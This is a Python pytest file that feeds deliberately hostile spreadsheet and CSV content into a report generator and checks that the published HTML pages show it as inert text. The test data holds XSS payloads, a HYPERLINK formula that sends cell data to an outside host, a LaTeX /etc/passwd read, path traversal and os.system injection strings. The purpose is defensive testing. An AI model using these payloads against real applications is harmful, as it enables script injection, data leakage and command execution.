"""Cells, headers, sheets, files and units that are code: shown as text everywhere, run nowhere."""

import json
import re
from html import unescape

import openpyxl
import pandas as pd
import pytest
from conftest import MEMBERS, ROOT, UNITS, called, cxzy, write_xlsx
from playwright.sync_api import sync_playwright
from test_browser import ARGUMENTS, CHROMIUM

from cxzy_lib.publish.editions import folder_name

SCRIPT = "<script>document.title='HIT'</script>"
IMAGE = "<img src=x onerror=\"document.title='HIT'\">"
LINK = "[看](javascript:document.title='HIT')"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"看")'
HOSTILE = [
    SCRIPT,
    IMAGE,
    LINK,
    "javascript:document.title='HIT'",
    r"$\input{/etc/passwd}$ \frac{1}{0}",
    "**粗** <!-- x --> ``` `x`",
    "\u202e反\u2066向\u200b",
    "{{7*7}} {% raw %} ${7*7}",
    "</title></main><svg onload=\"document.title='HIT'\">",
    '"; import os; os.system("touch HIT") #',
    "'; __import__('os').system('touch HIT'); '",
    "../../../HIT",
]
#: A branch's name that is code in three languages at once.
BRANCH = (
    "支部<img/src=x/onerror=document.title='HIT'>\u202e\"';__import__('os').system('mkdir$IFS./HIT')#/../HIT"
)


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A small institution whose every text column holds code, cleaned and published."""
    folder = tmp_path_factory.mktemp("hostile")
    raw = folder / "raw" / "试验学院"
    units = [row[:] for row in UNITS]
    for row, name in zip(units[2:4], (SCRIPT, IMAGE), strict=True):
        row[1], row[4] = f"处{name}", BRANCH
    write_xlsx(raw / "名册.xlsx", units)
    members = [row[:] for row in MEMBERS]
    for n, row in enumerate(members[1:]):
        row[3], row[4] = BRANCH, units[2 + n % 2][1]
    write_xlsx(raw / "花名册.xlsx", members)
    heads = [
        "序号",
        "存在问题",
        "问题来源",
        "整改措施",
        "责任领导",
        "责任部门",
        "责任人",
        "提出日期",
        "整改期限",
        "完成情况",
        f"列{SCRIPT}",
    ]
    rows = [
        [n, text, text, text, text, units[2][1], "张三", "2011-01-10", "2011-06-30", "正在整改", text]
        for n, text in enumerate(HOSTILE, 1)
    ]
    write_xlsx(
        raw / f"整改{IMAGE.replace('/', '')}.xlsx",
        [["试验学院2011年整改台账"], heads, *rows],
        sheet="<b onclick=x>",
    )
    heads = [
        "序号",
        "活动时间",
        "支部",
        "活动类型",
        "主题",
        "主讲人",
        "活动方式",
        "载体",
        "地点",
        "应到人数",
        "实到人数",
        "请假",
        "缺席",
    ]
    events = [
        [n, f"2011-0{1 + n % 9}-05", BRANCH, "党课", text, text, text, text, text, 9, 8, 1, 0]
        for n, text in enumerate(HOSTILE, 1)
    ]
    write_xlsx(raw / "活动.xlsx", [["试验学院2011年组织活动登记表"], heads, *events])
    vows = [
        "序号",
        "姓名",
        "支部",
        "一句话承诺内容",
        "承诺类别",
        "承诺日期",
        "公布方式",
        "公布日期",
        "完成时限",
        "兑现情况",
    ]
    rows = [
        [n, "张三", BRANCH, text, text, "2010-06-04", text, "2010-06-12", "2010-12-31", text]
        for n, text in enumerate(HOSTILE, 1)
    ]
    write_xlsx(raw / "承诺.xlsx", [["试验学院党员承诺践诺台账"], vows, *rows])
    questions = "序号,提交答卷时间,所用时间,1、您的身份是?,3、您对党员服务群众的情况是否满意?,6、您对活动有何意见建议?\n"
    answers = [
        f'{n},2012/5/{n} 10:00:00,61秒,群众,满意,"{t.replace(chr(34), chr(34) * 2)}\x07"'
        for n, t in enumerate(HOSTILE, 1)
    ]
    (raw / "问卷.csv").write_text(questions + "\n".join(answers) + "\n", "utf-8")
    places = ("--raw", folder / "raw", "--processed", folder / "processed", "--out", folder / "out")
    done = cxzy("report", *places, "--audience", "leadership")
    return folder, done


def test_nothing_crashes_and_every_row_is_accounted_for(made):
    folder, done = made
    assert done.returncode in (0, 1), done.stderr
    files = pd.read_parquet(folder / "processed" / "files.parquet")
    assert files["status"].isin(["read", "partly"]).all(), files[["source_file", "status"]]
    assert "失败）" in done.stdout
    assert "，0 页失败" in done.stdout
    ledger = pd.read_parquet(folder / "processed" / "ledger.parquet")
    for path in (folder / "raw").rglob("*.xlsx"):
        filled = sum(any(v is not None for v in row) for row in openpyxl.load_workbook(path).active.values)
        assert (ledger["source_file"] == f"试验学院/{path.name}").sum() == filled, path.name


def test_no_page_runs_what_it_shows(made):
    folder, _ = made
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        context = browser.new_context()
        said, asked = [], []
        context.on("console", lambda message: said.append(message.text))
        context.on("weberror", lambda error: said.append(str(error.error)))
        context.on("dialog", lambda dialog: said.append(dialog.message))
        context.on("request", lambda request: asked.append(request.url))
        pages = sorted((folder / "out").glob("*.html"))
        assert len(pages) == 11
        for path in pages:
            page = context.new_page()
            page.goto(path.as_uri())
            page.evaluate("document.fonts.ready")
            assert page.title() != "HIT", path.name
            assert page.locator("meta[http-equiv=Content-Security-Policy]").count() == 1
            assert (
                page.evaluate("document.querySelectorAll('main script, main img[onerror], [onclick]').length")
                == 0
            )
            assert page.evaluate(
                "[...document.querySelectorAll('a')].every(a => !/^javascript:/i.test(a.href))"
            )
        browser.close()
    assert said == []
    assert {url.partition(":")[0] for url in asked} == {"file"}


def test_what_is_code_is_shown_as_text(made):
    folder, _ = made
    shown = "".join(path.read_text("utf-8") for path in (folder / "out").glob("*.html"))
    body = "".join(re.findall(r"<main.*?</main>", shown, re.S))
    seen = unescape(re.sub(r"<[^>]+>", " ", body))
    assert seen.count("支部<img/src=x/onerror=document.title='HIT'>\N{REPLACEMENT CHARACTER}") > 5
    assert not re.search(r"[\x00-\x08\x0e-\x1f\u202a-\u202e\u2066-\u2069]", shown)
    assert not re.search(r"<(script|img|iframe|object|embed)\b[^>]*(onerror|src=x)", body)


def test_nothing_was_run_and_nothing_written_elsewhere(made):
    folder, _ = made
    assert [path for path in folder.rglob("*HIT*") if "raw" not in path.parts] == []
    assert {path.name for path in folder.iterdir()} == {"raw", "processed", "out"}


def test_a_unit_that_is_code_is_a_parameter_like_any_other(made):
    folder, _ = made
    places = ("--processed", folder / "processed", "--out", folder / "unit")
    done = called(
        ROOT, "run", "10_data_quality", "07_steps", *places, "--unit", BRANCH, "--audience", "branch"
    )
    assert done.returncode == 0, done.stdout + done.stderr
    manifest = json.loads((folder / "unit" / "manifest.json").read_text("utf-8"))
    assert manifest["parameters"]["unit"] == BRANCH
    assert list(folder.rglob("HIT*")) == []
    assert re.fullmatch(r"[\w（）()·-]+", folder_name(BRANCH))
    refused = called(ROOT, "run", "10_data_quality", *places, "--unit", "'; import os #")
    assert refused.returncode == 2
    assert "Traceback" not in refused.stderr
